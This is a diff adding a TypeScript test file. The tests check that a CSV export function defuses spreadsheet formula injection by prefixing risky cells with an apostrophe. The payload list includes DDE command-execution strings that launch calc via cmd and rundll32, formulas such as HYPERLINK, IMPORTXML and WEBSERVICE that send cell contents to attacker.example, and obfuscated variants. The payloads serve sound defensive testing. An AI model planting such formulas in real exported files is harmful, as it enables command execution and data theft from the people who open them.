@@ -1,0 +1,146 @@
+import { parse } from 'csv-parse/sync'
+import fc from 'fast-check'
+import papaparse from 'papaparse'
+import { describe, expect, test } from 'vitest'
+import { byteOrderMark, csvRow, originalText } from '#lambdas/csv.ts'
+
+const fileOf = (rows: readonly string[][]) => Buffer.from(byteOrderMark + rows.map(csvRow).join(''))
+
+const readers: [name: string, read: (file: Buffer) => string[][]][] = [
+  ['csv-parse', (file) => parse(file, { bom: true, record_delimiter: '\r\n' })],
+  [
+    'papaparse',
+    (file) => {
+      const text = new TextDecoder().decode(file).replace(/\r\n$/, '')
+      return papaparse.parse<string[]>(text, { delimiter: ',', newline: '\r\n' }).data
+    },
+  ],
+]
+
+/** Whatever can be in a string, and often what is special in a CSV file. */
+const special = fc.constantFrom(
+  ...['"', '""', "'", "''", ',', ';', '\r', '\n', '\r\n', '\t', ' ', '\u0000', '\ufeff', '\u200b', '\u00a0'],
+  ...[
+    '=',
+    '+',
+    '-',
+    '@',
+    '＝',
+    '＋',
+    '－',
+    '＠',
+    '|',
+    '\ud800',
+    '\udc00',
+    '😀',
+    'é',
+    'e\u0301',
+    '\u2028',
+    '-5',
+    'A1',
+  ],
+)
+const anyText = fc.oneof(
+  fc.string({ unit: 'binary' }),
+  fc.string({ unit: special, maxLength: 8 }),
+  fc.string({ unit: fc.nat(0xffff).map((unit) => String.fromCharCode(unit)) }),
+)
+const anyRows = fc
+  .integer({ min: 2, max: 6 })
+  .chain((width) =>
+    fc.array(fc.array(anyText, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 6 }),
+  )
+
+describe.each(readers)('%s', (_, read) => {
+  test('reads back every text, once the apostrophe before a formula is taken off [ADM-4]', () => {
+    fc.assert(
+      fc.property(anyRows, (rows) => {
+        const cells = read(fileOf(rows)).map((row) => row.map(originalText))
+        /** Half a surrogate pair is no Unicode, and no UTF-8 can hold it. */
+        expect(cells).toEqual(rows.map((row) => row.map((text) => text.toWellFormed())))
+      }),
+      { numRuns: 2000 },
+    )
+  })
+
+  test('finds no live formula, whatever was typed [ADM-4]', () => {
+    fc.assert(
+      fc.property(anyRows, (rows) => {
+        for (const cell of read(fileOf(rows)).flat()) {
+          expect(cell).not.toMatch(/^[=+\-@＝＋－＠\t\r\n]/)
+          expect(cell.replace(/^[\p{Z}\p{C}"]+/u, '')).not.toMatch(/^[=+\-@＝＋－＠]/)
+        }
+      }),
+      { numRuns: 2000 },
+    )
+  })
+})
+
+test.each<[text: string, cell: string]>([
+  ['Acme Life', 'Acme Life'],
+  ['', ''],
+  ['Jones, Mary', '"Jones, Mary"'],
+  ['5 ft 8 "or so"', '"5 ft 8 ""or so"""'],
+  ['two\nlines', '"two\nlines"'],
+  ['two\rlines', '"two\rlines"'],
+  ['a\tb', '"a\tb"'],
+  [' padded ', '" padded "'],
+  ['1-2 times; or more', '1-2 times; or more'],
+  ['(555) 123-4567', '(555) 123-4567'],
+  ['$250,000', '"$250,000"'],
+  ['-5', "'-5"],
+  ['-', "'-"],
+  ['+1 555 123 4567', "'+1 555 123 4567"],
+  ["'quoted'", "'quoted'"],
+  ["'=1", "''=1"],
+])('%j is written as %j', (text, cell) => expect(csvRow([text, 'x'])).toBe(`${cell},x\r\n`))
+
+/** OWASP's CSV Injection page, PayloadsAllTheThings, and ways to hide the first character. */
+test.each([
+  '=1+1',
+  '=1+2";=1+2',
+  '=1+2\'" ;,=1+2',
+  "=cmd|' /C calc'!A0",
+  'DDE ("cmd";"/C calc";"!A0")A0'.replace('DDE', '=DDE'),
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  "+1+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!D2",
+  "=2+5+cmd|' /C calc'!A0",
+  "=10+20+cmd|' /C calc'!A0",
+  '=HYPERLINK("https://attacker.example/?x="&A1,"Click")',
+  '=IMPORTXML(CONCAT("https://attacker.example/?v=",A1),"//a")',
+  '=WEBSERVICE("https://attacker.example/")',
+  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+  '=AAAA+BBBB-CCCC&"Hello"/12345&cmd|\'/c calc.exe\'!A',
+  "=    C    m D                    |        '/        c       c  al  c      .  e                  x       e  '   !   A",
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\r\n=1+1',
+  '\tplain',
+  ' =1+1',
+  '\u00a0=1+1',
+  '\u3000＝1+1',
+  '\ufeff=1+1',
+  '\u200b=1+1',
+  '\u2060\u00ad=1+1',
+  '\u3164=1+1',
+  '\u202e=1+1',
+  '\u0000=1+1',
+  '\u0085=1+1',
+  '"=1+1',
+  '"" =1+1',
+  "' =1+1",
+  '“=1+1',
+])('%j is no live formula, and not lost [ADM-4]', (payload) => {
+  const row = csvRow([payload, payload])
+  for (const [, read] of readers) {
+    const [cells = []] = read(Buffer.from(byteOrderMark + row))
+    expect(cells).toEqual([`'${payload}`, `'${payload}`])
+    expect(cells.map(originalText)).toEqual([payload, payload])
+  }
+})
